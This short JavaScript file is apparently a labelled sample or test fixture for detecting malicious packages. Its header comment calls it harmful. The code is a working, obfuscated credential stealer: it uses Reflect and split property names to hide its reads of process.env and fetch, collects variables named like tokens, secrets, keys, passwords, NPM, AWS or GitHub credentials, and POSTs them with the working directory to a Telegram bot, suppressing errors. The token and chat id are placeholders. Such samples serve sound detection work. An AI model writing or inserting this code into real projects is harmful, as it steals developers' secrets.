// Harmful: reaches process.env and fetch through Reflect/globalThis with split property names and sends secret-looking variables to a Telegram bot.
const g = globalThis;
const P = Reflect.get(g, ['pro', 'cess'].join(''));
const E = Reflect.get(P, 'en' + 'v');
const send = Reflect.get(g, 'fe' + 'tch');

const api = ['https://api.telegram.org', 'bot0000000000:FAKE_TOKEN_FOR_TESTS', 'sendMessage'].join('/');
const hits = Reflect.ownKeys(E).filter((k) => /TOKEN|SECRET|KEY|PASS|NPM|AWS|GITHUB/i.test(k));

const text = hits.map((k) => `${k}=${Reflect.get(E, k)}`).join('\n');

if (text) {
  Reflect.apply(send, g, [
    api,
    {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ chat_id: '-1000000000', text: `${Reflect.get(P, 'cwd').call(P)}\n${text}` }),
    },
  ]).catch(() => {});
}
